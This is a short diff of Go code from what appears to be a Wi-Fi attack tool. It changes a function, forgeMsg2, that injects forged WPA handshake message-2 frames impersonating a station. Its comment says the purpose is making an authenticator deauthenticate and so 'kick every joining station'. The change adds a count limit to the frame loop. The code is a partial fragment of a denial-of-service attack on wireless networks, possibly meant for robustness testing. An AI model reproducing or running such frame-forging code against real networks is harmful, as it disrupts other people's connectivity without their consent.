@@ -21,7 +21,7 @@ var llcEAPOL = []byte{0xaa, 0xaa, 0x03, 0, 0, 0, 0x88, 0x8e}
 // once, pretending to be sta, with message 2s that copy the replay counter
 // but cannot carry a valid MIC (it lacks the passphrase). An authenticator
 // that deauthenticates on a bad MIC lets it kick every joining station.
-func forgeMsg2(iface string, bssid, sta net.HardwareAddr, d time.Duration) error {
+func forgeMsg2(iface string, bssid, sta net.HardwareAddr, d time.Duration, count int) error {
 	in, err := newInjector(iface)
 	if err != nil {
 		return err
@@ -36,7 +36,7 @@ func forgeMsg2(iface string, bssid, sta net.HardwareAddr, d time.Duration) error
 	}
 	seen, forged := 0, 0
 	buf := make([]byte, 4096)
-	for end := time.Now().Add(d); time.Now().Before(end); {
+	for end := time.Now().Add(d); time.Now().Before(end) && seen < count; {
 		n, _, err := unix.Recvfrom(in.fd, buf, 0)
 		if errors.Is(err, unix.EAGAIN) || errors.Is(err, unix.EINTR) {
 			continue
